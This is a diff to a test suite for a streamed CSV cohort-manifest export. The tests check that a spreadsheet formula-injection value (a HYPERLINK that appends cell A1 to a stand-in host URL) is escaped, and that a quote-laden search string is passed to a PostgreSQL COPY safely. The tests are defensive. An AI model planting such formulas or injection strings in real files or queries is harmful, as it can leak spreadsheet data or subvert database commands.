@@ -112,6 +112,9 @@ describe("a cohort manifest", () => {
     const text = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters("") })).arrayBuffer()).toString("utf8");
     expect(text).toContain(`'=HYPERLINK(""http://x.test/?""&A1,""a"")"`);
     expect(text).toContain(",'-2+3,");
+    // The report search's free text reaches the COPY as an escaped literal (this version has no reports: no rows, and no error).
+    const searched = await new Response(manifestCsvStream({ labId, datasetId, filters: filters(`q=${encodeURIComponent("it's \\' \"pleural effusion\" -x')")}`) })).text();
+    expect(searched).toBe(csvChunk([[...MANIFEST_COLUMNS]]));
   });
 
   it("is pulled only as fast as its reader reads: PostgreSQL waits to write while the reader pauses, and a reader that goes away ends the COPY", async () => {
